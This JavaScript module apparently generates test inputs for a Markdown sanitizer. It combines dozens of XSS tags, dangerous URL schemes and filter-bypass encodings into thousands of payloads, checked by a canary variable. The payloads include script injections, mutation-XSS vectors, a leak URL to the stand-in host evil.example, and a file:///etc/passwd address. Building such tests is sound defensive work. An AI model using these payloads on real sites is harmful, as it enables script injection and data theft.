// Attacks: what might be run or fetched, written in every way that has got past a filter somewhere, at every place in
// Markdown where an address, a text or a tag can stand. The canary is `globalThis.canary`; nothing may set it, and
// nothing may be fetched from evil.example.

const RUN = "globalThis.canary=1";
const EVIL = "https://evil.example/leak?q=secret";

const TAGS = [
  `<script>${RUN}</script>`,
  `<script src=${EVIL}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${EVIL}">`,
  `<img srcset="${EVIL} 1x">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x">`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<iframe srcdoc="<script>parent.canary=1</script>"></iframe>`,
  `<iframe src="javascript:parent.canary=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${EVIL}">`,
  `<link rel=stylesheet href="${EVIL}">`,
  `<link rel=prefetch href="${EVIL}">`,
  `<style>@import url(${EVIL});</style>`,
  `<p style="background:url(${EVIL})">x</p>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href="${EVIL}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form id=x></form><button form=x formaction="javascript:${RUN}">x</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video src="${EVIL}" onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=x onclick=${RUN} ping="${EVIL}">x</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<sub onmouseover=${RUN}>x</sub>`,
  `<kbd style="x:expression(${RUN})">x</kbd>`,
  `<br onclick=${RUN}>`,
  `<img name=getElementById><form id=body>`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `javascript://evil.example/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcnk9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImNhbmFyeT0xIi8+`,
  `data:image/png,${RUN}`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `blob:https://evil.example/1`,
  `filesystem:https://evil.example/1`,
  `file:///etc/passwd`,
  `about:blank`,
  `view-source:javascript:${RUN}`,
  `//evil.example/leak`,
  `/admin?delete=all`,
  `../v1/keys`,
  `#/settings?key=1`,
  `https:javascript:${RUN}`,
  EVIL,
  `http://user:password@evil.example/`,
  `mailto:a@evil.example?body=x`,
];

/** @type {((text: string) => string)[]} Ways to write an address. */
const SPELLINGS = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => [...text].map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)).join(""),
  (text) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join(""),
  (text) => [...text].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)};`).join(""),
  (text) => text.replace(/:/, "&colon;"),
  (text) => text.replace(/(?<=^..)/, "&Tab;"),
  (text) => text.replace(/(?<=^...)/, "&NewLine;"),
  (text) => text.replace(/(?<=^....)/, "\t"),
  (text) => `\u0001${text}`,
  (text) => `\u00a0 ${text}`,
  (text) => text.replace(/(?<=^..)/, "\u0000"),
  (text) => text.replace(/(?<=^..)/, "\u200b"),
  (text) => text.replace(/(?<=^..)/, "\\"),
  (text) => text.replace(/:/, "%3a"),
  (text) => `\u202e${text}`,
  (text) => text.replace(/^./, (letter) => String.fromCodePoint((letter.codePointAt(0) ?? 0) + 0xfee0)),
  (text) => encodeURI(text),
];

/** @type {((address: string) => string)[]} Places for an address. */
const ADDRESS_PLACES = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}> "onmouseover=${RUN}")`,
  (address) => `![picture](${address})`,
  (address) => `![](<${address}>)`,
  (address) => `[![picture](${address})](${address})`,
  (address) => `<${address}>`,
  (address) => `[click][x]\n\n[x]: ${address}`,
  (address) => `![picture][x]\n\n[x]: <${address}> 'title'`,
  (address) => `| a |\n|---|\n| [click](${address}) |`,
  (address) => `- [ ] > [click](${address} '"><script>${RUN}</script>')`,
  (address) => `\\(\\href{${address}}{x}\\)`,
  (address) => `$$\\includegraphics{${address}}$$`,
  (address) => `\\[\\class{x}{\\url{${address}}}\\]`,
  (address) => `\`\`\`${address}\n${address}\n\`\`\``,
];

/** @type {((tag: string) => string)[]} Ways to write a tag. */
const TAG_SPELLINGS = [
  (tag) => tag,
  (tag) => tag.toUpperCase().replaceAll("GLOBALTHIS.CANARY", "globalThis.canary"),
  (tag) => tag.replace(/ /g, "/"),
  (tag) => tag.replace(/ /g, "\n"),
  (tag) => tag.replace(/</g, "&lt;"),
  (tag) => tag.replace(/</g, "\\<"),
  (tag) => `<${tag}`,
  (tag) => tag.replace(/>/, ""),
  (tag) => tag.replace(/<(\w)/, "<\u0000$1"),
];

/** @type {((tag: string) => string)[]} Places for a tag. */
const TAG_PLACES = [
  (tag) => tag,
  (tag) => `text ${tag} text`,
  (tag) => `# ${tag}`,
  (tag) => `- ${tag}\n- [x] ${tag}`,
  (tag) => `> ${tag}`,
  (tag) => `| ${tag} |\n|---|\n| ${tag} |`,
  (tag) => `**${tag}** ~~${tag}~~`,
  (tag) => `[${tag}](https://example.com "${tag}")`,
  (tag) => `![${tag}](https://example.com/x.png)`,
  (tag) => `\`\`\`html ${tag}\n${tag}\n\`\`\``,
  (tag) => `\`${tag}\` <sub>${tag}</sub>`,
  (tag) => `\\(\\text{${tag}}\\) $$${tag}$$`,
];

/** @returns {string[]} More than five thousand, no two the same. */
export function payloads() {
  const addresses = product(ADDRESSES, SPELLINGS, ADDRESS_PLACES);
  const tags = product(TAGS, TAG_SPELLINGS, TAG_PLACES);
  return [...new Set([...addresses, ...tags])];
}

/**
 * @param {string[]} values
 * @param {((value: string) => string)[]} spellings
 * @param {((value: string) => string)[]} places
 */
function product(values, spellings, places) {
  return values.flatMap((value) => spellings.flatMap((spell) => places.map((place) => place(spell(value)))));
}
